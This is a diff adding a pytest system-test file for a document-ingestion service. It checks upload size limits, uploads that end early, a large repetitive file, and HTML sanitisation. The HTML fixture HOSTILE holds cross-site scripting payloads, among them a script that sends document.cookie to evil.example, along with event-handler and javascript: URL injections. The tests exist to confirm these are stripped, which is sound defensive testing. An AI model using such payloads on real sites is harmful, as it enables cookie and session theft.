@@ -1,0 +1,186 @@
+"""Input that is too large, cut off or hostile: a typed error, the same everywhere, and nothing left behind."""
+
+from __future__ import annotations
+
+import io
+import json
+import socket
+from collections.abc import Iterator, Sequence
+from typing import Any
+
+import grpc
+import pytest
+from google.protobuf.json_format import ParseDict
+from google.rpc.status_pb2 import Status
+
+from responsa.knowledge.v1 import knowledge_service_pb2 as pb
+from responsa.knowledge.v1 import knowledge_service_pb2_grpc
+from tests.callers import Credential, Registry, Tenant
+from tests.instance import Instance, eventually
+from tests.system.test_journey import answer
+from tests.transports import Call, Json, Way, Ways, method_of
+
+LIMIT = 64 * 1024 * 1024
+CHUNK = 256 * 1024
+
+
+def left(instance: Instance, registry: Registry, tenant: Tenant) -> tuple[Any, Sequence[str]]:
+    """Rows of the tenant, and files beside the database."""
+    files = sorted(str(one) for one in (instance.home / "data").rglob("*") if one.is_file())
+    return registry.rows(*tenant.names), files
+
+
+def uploading(key: str, pieces: Iterator[bytes], size: int = 0) -> Iterator[pb.UploadDocumentRequest]:
+    start = pb.UploadStart(size_bytes=size)
+    start.metadata.source_key = key
+    yield pb.UploadDocumentRequest(start=start)
+    for piece in pieces:
+        yield pb.UploadDocumentRequest(chunk=piece)
+
+
+def pieces_of(size: int) -> Iterator[bytes]:
+    piece = b"All work and no play. " * 12_000
+    while size > 0:
+        yield piece[: min(CHUNK, size)]
+        size -= CHUNK
+
+
+def test_a_file_over_the_limit(instance: Instance, registry: Registry, tenant: Tenant, ways: Ways) -> None:
+    headers = tenant.headers(Credential.USER)
+    before = left(instance, registry, tenant)
+    method = method_of("KnowledgeService/UploadDocument")
+    announced = ways.by_name[Way.GRPC].call(
+        Call(method, [*uploading("big.md", iter(()), LIMIT + 1)], headers=headers)
+    ).problem
+    assert announced is not None
+    assert announced["details"][0]["reason"] == "DOCUMENT_TOO_LARGE"
+    assert announced["details"][0]["metadata"] == {"limit_bytes": str(LIMIT), "source_key": "big.md"}
+    # Not announced, and sent.
+    with pytest.raises(grpc.RpcError) as raised:
+        knowledge_service_pb2_grpc.KnowledgeServiceStub(ways.channel).UploadDocument(
+            uploading("big.md", pieces_of(LIMIT + 1)), metadata=[*headers.items()], timeout=60
+        )
+    trailers: dict[str, Any] = dict(raised.value.trailing_metadata())  # pyright: ignore
+    assert Status.FromString(trailers["grpc-status-details-bin"]) == ParseDict(announced, Status())
+    # Over HTTP: announced by content-length, and in chunks of unknown number.
+    content = b"".join(pieces_of(LIMIT + 1))
+    for body in (content, iter([content[:LIMIT], content[LIMIT:]])):
+        response = ways.http.put("/v1/uploads", params={"source_key": "big.md"}, content=body, headers=headers)
+        assert response.status_code == 400
+        assert ParseDict(response.json(), Status()) == ParseDict(announced, Status())
+    assert left(instance, registry, tenant) == before
+
+
+def test_a_request_over_four_mebibytes(instance: Instance, registry: Registry, tenant: Tenant, ways: Ways) -> None:
+    headers = tenant.headers(Credential.USER)
+    before = left(instance, registry, tenant)
+    body = json.dumps({"metadata": {"sourceKey": "big.md"}, "text": "x" * 5_000_000}).encode()
+    response = ways.http.post("/v1/documents", content=body, headers=headers)
+    assert (response.status_code, response.json()["details"][0]["reason"]) == (400, "DOCUMENT_TOO_LARGE")
+    assert left(instance, registry, tenant) == before
+
+
+@pytest.mark.parametrize("chunked", [False, True])
+def test_an_upload_that_ends_early_over_http(
+    instance: Instance, registry: Registry, tenant: Tenant, ways: Ways, chunked: bool
+) -> None:
+    headers = tenant.headers(Credential.USER)
+    before = left(instance, registry, tenant)
+    size = "Transfer-Encoding: chunked" if chunked else "Content-Length: 5000000"
+    head = (
+        f"PUT /v1/uploads?source_key=cut.md HTTP/1.1\r\nHost: {instance.target}\r\n"
+        f"Authorization: {headers['authorization']}\r\n{size}\r\n\r\n"
+    )
+    part = b"A sentence of it. " * 100_000
+    with socket.create_connection(("127.0.0.1", instance.port)) as connection:
+        connection.sendall(head.encode())
+        connection.sendall(f"{len(part):x}\r\n".encode() + part + b"\r\n" if chunked else part)
+    until_no_upload_runs(instance)
+    assert left(instance, registry, tenant) == before
+
+
+def test_an_upload_that_ends_early_over_grpc(
+    instance: Instance, registry: Registry, tenant: Tenant, ways: Ways
+) -> None:
+    headers = tenant.headers(Credential.USER)
+    before = left(instance, registry, tenant)
+    holder: list[grpc.Future] = []
+
+    def cut() -> Iterator[bytes]:
+        yield from pieces_of(4 * CHUNK)
+        holder[0].cancel()
+
+    stub = knowledge_service_pb2_grpc.KnowledgeServiceStub(ways.channel)
+    call: Any = stub.UploadDocument.future(  # pyright: ignore
+        uploading("cut.md", cut()), metadata=[*headers.items()], timeout=60
+    )
+    holder.append(call)
+    with pytest.raises(grpc.FutureCancelledError):
+        call.result()
+    until_no_upload_runs(instance)
+    assert left(instance, registry, tenant) == before
+
+
+def until_no_upload_runs(instance: Instance) -> None:
+    """Until the server's log tells that the last upload that began has ended."""
+
+    def ended() -> bool:
+        lines = [json.loads(line) for line in instance.log("server").splitlines() if line.startswith("{")]
+        calls = [one for one in lines if str(one.get("method", "")).endswith("/UploadDocument")]
+        return bool(calls) and calls[-1].get("code") != "OK"
+
+    eventually(ended, "the end of the upload")
+
+
+HOSTILE = """<!doctype html><html><head><title>Recipe<script>alert("title")</script></title>
+<script>document.location = "https://evil.example/?" + document.cookie; // zebrastripe</script>
+<style>body { background: url("https://evil.example/pixel") } /* okapi */</style></head>
+<body onload="alert('quagga')"><h1>Bread</h1>
+<p>Sourdough rests <b onclick="steal()">eighteen hours</b> before it is baked.</p>
+<img src=x onerror="alert('kudu')"><iframe src="javascript:alert('nyala')"></iframe>
+<a href="javascript:alert(1)">The oven is heated to 250 degrees.</a>
+<svg><script>alert('bongo')</script></svg><noscript>gnu</noscript><template><p>impala</p></template>
+<p>&lt;script&gt;alert("shown as text")&lt;/script&gt;</p></body></html>"""
+
+
+def test_html_with_scripts_is_read_as_text(ways: Ways, tenant: Tenant) -> None:
+    headers = tenant.headers(Credential.USER)
+    operation = ways.http.put(
+        "/v1/uploads", params={"source_key": "bread.html"}, content=HOSTILE.encode(), headers=headers
+    ).json()
+    done = ways.call("Operations/WaitOperation", {"name": operation["name"], "timeout": "60s"}, headers).message
+    document = done["response"]["document"]
+    content = ways.call("KnowledgeService/GetDocumentContent", {"name": document["name"]}, headers).messages
+    text = "".join(piece["text"] for piece in content)
+    for hidden in ("zebrastripe", "okapi", "quagga", "steal", "kudu", "nyala", "bongo", "evil.example", "onclick"):
+        assert hidden not in text, hidden
+    # What the author wrote as text stays text: it is for the reader of the answer to show it so.
+    assert '<script>alert("shown as text")</script>' in text
+    turn = answer(ways, headers, "How long does sourdough rest before it is baked?")
+    assert "Sourdough rests eighteen hours before it is baked." in turn["terminalEvent"]["answer"]["text"]
+    assert ways.call("KnowledgeService/Search", {"terms": ["zebrastripe"], "mode": "SEARCH_MODE_TEXT"}, headers).message == {}
+
+
+def test_a_word_a_million_times(ways: Ways, tenant: Tenant, instance: Instance) -> None:
+    headers = tenant.headers(Credential.USER)
+    body = io.BytesIO(b"badger " * 1_000_000).getvalue()
+    operation = ways.http.put(
+        "/v1/uploads", params={"source_key": "badgers.txt"}, content=body, headers=headers
+    ).json()
+    done: Json = {}
+
+    def ended() -> bool:
+        nonlocal done
+        done = ways.call("Operations/WaitOperation", {"name": operation["name"], "timeout": "20s"}, headers).message
+        return bool(done.get("done"))
+
+    # Others are served meanwhile.
+    ways.call("KnowledgeService/CreateDocument", {"metadata": {"sourceKey": "fox.md"}, "text": "A fox lives here."}, headers)
+    assert ways.call("AuthService/GetMe", {}, headers).problem is None
+    eventually(ended, lambda: f"the end of {done}")
+    assert "error" not in done, done
+    assert done["response"]["document"]["passageCount"] > 100
+    hits = ways.call("KnowledgeService/Search", {"terms": ["badger"], "topK": 3}, headers).message["hits"]
+    assert len(hits) == 3
+    deleted = ways.call("KnowledgeService/DeleteDocument", {"name": done["response"]["document"]["name"]}, headers)
+    assert deleted.problem is None
